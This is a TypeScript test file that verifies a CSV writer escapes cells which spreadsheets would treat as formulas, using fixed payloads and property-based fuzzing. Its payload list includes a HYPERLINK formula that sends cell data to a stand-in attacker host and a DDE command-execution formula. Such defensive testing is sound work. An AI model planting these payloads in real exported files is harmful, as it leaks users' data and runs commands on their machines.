/** Nothing that Drover writes for a spreadsheet is run by it, whatever somebody has typed into a name or a note. */
import fc from 'fast-check';
import Papa from 'papaparse';
import { expect, test } from 'vitest';
import { type ReportRow, reportCsv } from '../../domain/import/report.ts';
import { csvLine } from '../../domain/units/csv.ts';
import { sources, text } from '../tree/sources.ts';

const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://evil.example?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '+1-555 (call)',
  '-2+3',
  '-1,2;=3',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1+1',
  '"=1+1"',
  'a";=1+1;"',
  'x\r\n=1+1',
  '-',
  '=',
  '%0A=1',
];
const trigger = /^[=+\-@\t\r\n＝＋－＠]/u;
const isNumber = (cell: string): boolean => /^[+-]?\d+([.,]\d+)*$/u.test(cell);
const isHarmless = (cell: string): boolean => !trigger.test(cell) || isNumber(cell);

/** The cells as spreadsheets of both worlds read them: apart by commas, and apart by semicolons. */
const readBack = (csv: string, delimiter: ',' | ';'): string[][] =>
  Papa.parse<string[]>(csv.replace(/^\ufeff/, ''), { delimiter, newline: '\r\n' }).data;

test('a cell that would be a formula begins with an apostrophe, read with commas or with semicolons', () => {
  for (const formula of FORMULAS) {
    for (const delimiter of [',', ';'] as const) {
      const cells = readBack(csvLine([formula, 'plain', formula]), delimiter).flat();
      expect([formula, delimiter, cells.filter((cell) => !isHarmless(cell))]).toEqual([formula, delimiter, []]);
    }
  }
});

test('no text at all comes out as a formula or breaks out of its cell, and numbers stay numbers', () => {
  const piece = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', "'", ',', ';', ' ', 'a', '1', '.', '＝');
  fc.assert(
    fc.property(
      fc.array(
        fc.oneof(
          fc.string(),
          fc.array(piece).map((parts) => parts.join('')),
        ),
        { minLength: 1, maxLength: 4 },
      ),
      (cells) => {
        const [row = []] = readBack(csvLine(cells), ',');
        expect(row).toHaveLength(cells.length);
        expect(row.filter((cell) => !isHarmless(cell))).toEqual([]);
      },
    ),
    { numRuns: 2000 },
  );
  expect(csvLine(['-94.2', '+3', '1,5'])).toBe('-94.2,+3,"1,5"\r\n');
});

test('the report of an import is safe with what was in the imported file, its headings too', () => {
  const rows: ReportRow[] = FORMULAS.map((formula, line) => ({
    line,
    cells: [formula, formula],
    outcome: 'bad',
    findings: [{ level: 'error', code: 'x', column: formula, message: `${formula} is no number` }],
  }));
  const cells = readBack(reportCsv(FORMULAS.slice(0, 2), rows), ',').flat();
  expect(cells.length).toBeGreaterThan(FORMULAS.length * 4);
  expect(cells.filter((cell) => !isHarmless(cell))).toEqual([]);
});

test('there is no other writer of CSV: whoever names the type takes its lines from this one', () => {
  const writers = sources.filter((path) => /type: 'text\/csv|'content-type', 'text\/csv|'text\/csv; ?charset/.test(text(path)));
  expect(writers).toContain('renderer/import/save-report.ts');
  expect(writers.filter((path) => !/\bcsv(?:Line|Of)\b|\b\w+Csv\b/.test(text(path)))).toEqual([]);
  for (const path of ['domain/import/report.ts', 'sync-server/audit/audit-csv.ts']) expect(text(path)).toContain('csvLine(');
  const joined = sources.filter((path) => /\.join\((?:','|';'|"\\t")\)\s*\+\s*'\\r?\\n'/.test(text(path)));
  expect(joined).toEqual([]);
});
